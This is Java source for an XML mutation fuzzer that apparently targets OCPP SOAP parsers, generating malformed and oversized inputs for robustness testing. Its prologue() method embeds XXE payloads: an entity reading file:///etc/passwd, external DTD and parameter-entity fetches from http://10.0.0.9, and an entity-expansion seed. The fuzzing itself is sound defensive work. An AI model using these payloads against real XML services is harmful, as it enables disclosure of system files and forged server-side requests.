package dev.substation.fuzz;

import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** XML changed in its elements, texts, attributes and names; what comes out may be no XML. */
final class XmlMutations {

    private static final Pattern TOKEN = Pattern.compile("<[^>]*>|[^<]+");
    private static final Pattern TEXT = Pattern.compile(">([^<>]+)<");
    private static final Pattern NAME = Pattern.compile("[A-Za-z][\\w.-]*");
    private static final Pattern TAG = Pattern.compile("<[A-Za-z][^>]*?(?=/?>)");

    /** In characters; more than the face takes is tried by other means. */
    private static final int LARGEST = 200_000;

    private final Seeds seeds;

    XmlMutations(Seeds seeds) {
        this.seeds = seeds;
    }

    /** A document or a part of one with some changes. */
    String changed(Dice dice, String xml) {
        String broken = xml;
        for (int i = dice.of(1, 1, 1, 2, 4); i > 0; i--) {
            String next = once(dice, broken);
            broken = next.length() > LARGEST ? broken : next;
        }
        return broken;
    }

    private String once(Dice dice, String xml) {
        return switch (dice.below(20)) {
            case 0, 1, 2, 3, 4, 5 -> text(dice, xml);
            case 6, 7, 8, 9 -> element(dice, xml);
            case 10, 11 -> inTag(dice, xml);
            case 12 -> between(dice, xml);
            case 13 -> nested(dice, xml);
            case 14 -> prologue(dice, xml);
            case 15 -> prefixes(dice, xml);
            case 16 -> swapped(dice, xml);
            default -> Nasty.slip(dice, xml);
        };
    }

    /** One text replaced. */
    private String text(Dice dice, String xml) {
        List<int[]> places = new ArrayList<>();
        Matcher texts = TEXT.matcher(xml);
        while (texts.find()) {
            places.add(new int[] {texts.start(1), texts.end(1)});
        }
        if (places.isEmpty()) {
            return Nasty.slip(dice, xml);
        }
        int[] place = dice.of(places);
        String old = xml.substring(place[0], place[1]);
        String text =
                switch (dice.below(8)) {
                    case 0 -> Nasty.number(dice);
                    case 1 -> dice.of(seeds.words);
                    case 2 -> escaped(Nasty.slip(dice, old));
                    case 3 -> "<![CDATA[" + Nasty.text(dice) + "]]>";
                    case 4 ->
                            dice.of(
                                    "&#0;",
                                    "&#xD800;",
                                    "&#x10FFFF;",
                                    "&#x110000;",
                                    "&#10;",
                                    "&#xFFFE;",
                                    "&lol;",
                                    "&amp;lol;",
                                    "&#99999999999;",
                                    "&",
                                    "&amp");
                    case 5 -> old + "<!-- " + Nasty.text(dice) + " -->" + old;
                    case 6 -> Nasty.text(dice);
                    default -> escaped(Nasty.text(dice));
                };
        return xml.substring(0, place[0]) + text + xml.substring(place[1]);
    }

    private static String escaped(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;").replace("]]>", "]]&gt;");
    }

    /** One element lost, doubled, repeated, emptied or under another name. */
    private String element(Dice dice, String xml) {
        List<String> tokens = tokens(xml);
        List<Integer> starts = new ArrayList<>();
        for (int i = 0; i < tokens.size(); i++) {
            if (isStart(tokens.get(i))) {
                starts.add(i);
            }
        }
        if (starts.isEmpty()) {
            return Nasty.slip(dice, xml);
        }
        int start = dice.of(starts);
        int end = end(tokens, start);
        String head = String.join("", tokens.subList(0, start));
        String whole = String.join("", tokens.subList(start, end + 1));
        String tail = String.join("", tokens.subList(end + 1, tokens.size()));
        return switch (dice.below(8)) {
            case 0 -> head + tail;
            case 1 -> head + whole + whole + tail;
            case 2 -> head + limited(whole, seldom(dice, 3_000, dice.of(3, 10, 100))) + tail;
            case 3 -> head + tokens.get(start).replaceFirst("/?>$", "/>") + tail;
            case 4 -> head + renamed(dice, whole) + tail;
            case 5 -> tail.isEmpty() ? head + whole : head + "<x>" + whole + "</x>" + tail;
            case 6 ->
                    head
                            + "<"
                            + dice.of(seeds.names)
                            + ">1</"
                            + dice.of(seeds.names)
                            + ">"
                            + whole
                            + tail;
            default -> {
                String name = dice.of(seeds.names);
                yield head
                        + "<"
                        + name
                        + ">"
                        + dice.of(seeds.words).replaceAll("[<&]", "")
                        + "</"
                        + name
                        + ">"
                        + whole
                        + tail;
            }
        };
    }

    private static boolean isStart(String token) {
        return token.length() > 1
                && token.charAt(0) == '<'
                && (token.charAt(1) | 0x20) >= 'a'
                && (token.charAt(1) | 0x20) <= 'z';
    }

    private static String limited(String text, int times) {
        return text.repeat(Math.max(1, Math.min(times, LARGEST / 2 / text.length())));
    }

    /** What costs much to read is tried, but not often. */
    private static int seldom(Dice dice, int large, int usual) {
        return dice.oneIn(12) ? large : usual;
    }

    private String renamed(Dice dice, String element) {
        Matcher name = NAME.matcher(element);
        if (!name.find()) {
            return element;
        }
        String other =
                switch (dice.below(5)) {
                    case 0 -> name.group().toUpperCase(java.util.Locale.ROOT);
                    case 1 ->
                            "n"
                                    .repeat(
                                            element.length() > 1_000
                                                    ? 100
                                                    : dice.of(100, 1_001, 20_000));
                    case 2 -> "xml:" + name.group();
                    case 3 -> "nobody:" + name.group();
                    default -> dice.of(seeds.names);
                };
        return element.replace("<" + name.group(), "<" + other)
                .replace("</" + name.group(), "</" + other);
    }

    private static List<String> tokens(String xml) {
        List<String> tokens = new ArrayList<>();
        Matcher all = TOKEN.matcher(xml);
        while (all.find()) {
            tokens.add(all.group());
        }
        return tokens;
    }

    private static int end(List<String> tokens, int start) {
        int depth = 0;
        for (int i = start; i < tokens.size(); i++) {
            String token = tokens.get(i);
            if (token.startsWith("</")) {
                depth--;
            } else if (token.startsWith("<")
                    && !token.endsWith("/>")
                    && !token.startsWith("<!")
                    && !token.startsWith("<?")) {
                depth++;
            }
            if (depth <= 0) {
                return i;
            }
        }
        return tokens.size() - 1;
    }

    /** Attributes added to one tag. */
    private String inTag(Dice dice, String xml) {
        List<Integer> ends = new ArrayList<>();
        Matcher tags = TAG.matcher(xml);
        while (tags.find()) {
            ends.add(tags.end());
        }
        if (ends.isEmpty()) {
            return xml;
        }
        int at = dice.of(ends);
        String attribute =
                switch (dice.below(10)) {
                    case 0 -> " a='" + Nasty.text(dice).replaceAll("['<&]", "") + "'";
                    case 1 -> " unit='" + dice.of(seeds.words).replaceAll("['<&]", "") + "'";
                    case 2 -> " xmlns=''";
                    case 3 -> " xmlns:p='urn:p' p:a='1' p:a='2'";
                    case 4 -> {
                        StringBuilder many = new StringBuilder();
                        for (int i = seldom(dice, 2_000, dice.of(39, 41)); i > 0; i--) {
                            many.append(" a").append(i).append("='1'");
                        }
                        yield many.toString();
                    }
                    case 5 ->
                            " s:mustUnderstand='"
                                    + dice.of("1", "0", "true", "false", "", "yes", "TRUE")
                                    + "'";
                    case 6 ->
                            " xsi:nil='true' xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance'";
                    case 7 -> " href='#1' id='1'";
                    case 8 ->
                            " xmlns='"
                                    + dice.of(
                                            "urn://Ocpp/Cs/2012/06/",
                                            "urn://Ocpp/Cs/2015/10/",
                                            "urn://Ocpp/Cp/2015/10/",
                                            "urn://Ocpp/Cs/2010/08/",
                                            "urn://ocpp/cs/2012/06/",
                                            "u".repeat(9_000))
                                    + "'";
                    default ->
                            " b='" + "v".repeat(seldom(dice, 100_000, dice.of(8_000, 8_193))) + "'";
                };
        return xml.substring(0, at) + attribute + xml.substring(at);
    }

    /** Something between two tags. */
    private static String between(Dice dice, String xml) {
        int at = xml.indexOf('>', dice.below(xml.length() + 1)) + 1;
        String piece =
                dice.of(
                        "text",
                        "<!-- c -->",
                        "<!-- -- -->",
                        "<?pi x?>",
                        "<?xml version='1.0'?>",
                        "<![CDATA[]]>",
                        "<![CDATA[",
                        "\u0000",
                        "\ufffe",
                        "&#32;",
                        "<!DOCTYPE a>",
                        "<a xmlns:b='b'><b:c/></a>",
                        " ".repeat(20_000));
        return xml.substring(0, at) + piece + xml.substring(at);
    }

    private static String nested(Dice dice, String xml) {
        int at = xml.indexOf('>', dice.below(xml.length() + 1)) + 1;
        int deep = seldom(dice, 10_000, dice.of(3, 30, 36, 41, 1_000));
        String open = dice.of("<a>", "<s:Envelope>", "<a b='1'>");
        String name = open.equals("<s:Envelope>") ? "</s:Envelope>" : "</a>";
        return xml.substring(0, at)
                + open.repeat(deep)
                + (dice.oneIn(3) ? "" : name.repeat(deep))
                + xml.substring(at);
    }

    private static String prologue(Dice dice, String xml) {
        String document = dice.oneIn(2) ? xml.replaceFirst("(?s)^\\s*<\\?xml.*?\\?>", "") : xml;
        return dice.of(
                        "<!DOCTYPE a [<!ENTITY lol 'lol'><!ENTITY l2 '&lol;&lol;&lol;&lol;'>]>",
                        "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
                        "<!DOCTYPE a SYSTEM 'http://10.0.0.9/evil.dtd'>",
                        "<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://10.0.0.9/p'> %p;]>",
                        "<!DOCTYPE",
                        "<?xml version='1.0'?>",
                        "<?xml version='1.1'?>",
                        "<?xml version='9.9'?>",
                        "<?xml version='1.0' encoding='UTF-16'?>",
                        "<?xml version='1.0' encoding='klingon'?>",
                        "<?xml version='1.0' encoding='ISO-8859-1'?>",
                        "<?xml version='1.0' encoding='UTF-7' standalone='yes'?>",
                        "<?xml-stylesheet href='a'?>",
                        "\r\n\r\n",
                        "\u00a0",
                        "{}",
                        "<!-- hello -->")
                + document;
    }

    private static String prefixes(Dice dice, String xml) {
        return switch (dice.below(7)) {
            case 0 -> xml.replaceFirst("xmlns(:\\w+)?=(\"[^\"]*\"|'[^']*')", "");
            case 1 -> xml.replaceFirst("xmlns:(\\w+)=", "xmlns:other=");
            case 2 -> xml.replaceFirst("<(\\w+)", "<zz:$1");
            case 3 -> xml.replace("urn://Ocpp/Cs", "urn://Ocpp/Cp");
            case 4 -> xml.replace("2015/10", "2012/06");
            case 5 ->
                    xml.replace("urn://Ocpp", dice.of("urn://OCPP", "urn:Ocpp", "http://Ocpp", ""));
            default -> xml.replaceAll("<(/?)(\\w+)(?=[\\s>])", "<$1q:$2");
        };
    }

    private static String swapped(Dice dice, String xml) {
        List<String> tokens = tokens(xml);
        if (tokens.size() < 2) {
            return xml;
        }
        int one = dice.below(tokens.size());
        int other = dice.below(tokens.size());
        String kept = tokens.get(one);
        tokens.set(one, tokens.get(other));
        tokens.set(other, kept);
        return String.join("", tokens);
    }
}
